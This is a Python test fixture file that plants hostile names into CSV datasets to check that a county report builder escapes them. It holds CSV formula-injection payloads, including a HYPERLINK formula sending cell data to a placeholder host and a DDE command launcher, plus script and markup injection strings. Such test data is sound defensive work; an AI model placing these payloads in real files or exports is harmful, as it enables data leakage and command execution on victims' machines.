"""Reports to render: the Laoting reference county, and tiny with hostile names (formulas, markup, script)."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path
from typing import Any

import pytest

from graph.report import build_report
from loaders.generate import generate, write_csv
from loaders.validate import load_dataset
from tests.conftest import TINY

HYPERLINK = '=HYPERLINK("http://x?d="&A2,"a")'
DDE = "=cmd|' /C calc'!A0"
MARKUP = "[/bold][link=http://x]<!--<script>alert(1)</script>"
#: (file, id, new name): a grid, a community and a person that all have findings in tiny.
POISON = [("grids.csv", "WG4", HYPERLINK), ("communities.csv", "CM2", DDE), ("people.csv", "RY1", MARKUP),
          ("agencies.csv", "DW2", "+SUM(1,2)"), ("compounds.csv", "XQ2", "-2+3"), ("buildings.csv", "LD4", "@A1")]


@pytest.fixture(scope="session")
def laoting_report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    d = tmp_path_factory.mktemp("laoting-report")
    write_csv(generate(seed=2026), d)
    return build_report(load_dataset(d))


def rename(folder: Path, file: str, row_id: str, name: str) -> None:
    path = folder / file
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert any(r["id"] == row_id for r in rows), (file, row_id)
    for r in rows:
        if r["id"] == row_id:
            r["name"] = name
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


@pytest.fixture(scope="session")
def poisoned_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("poisoned") / "tiny"
    shutil.copytree(TINY, d)
    for file, row_id, name in POISON:
        rename(d, file, row_id, name)
    return d


@pytest.fixture(scope="session")
def poisoned_report(poisoned_dir: Path) -> dict[str, Any]:
    return build_report(load_dataset(poisoned_dir))
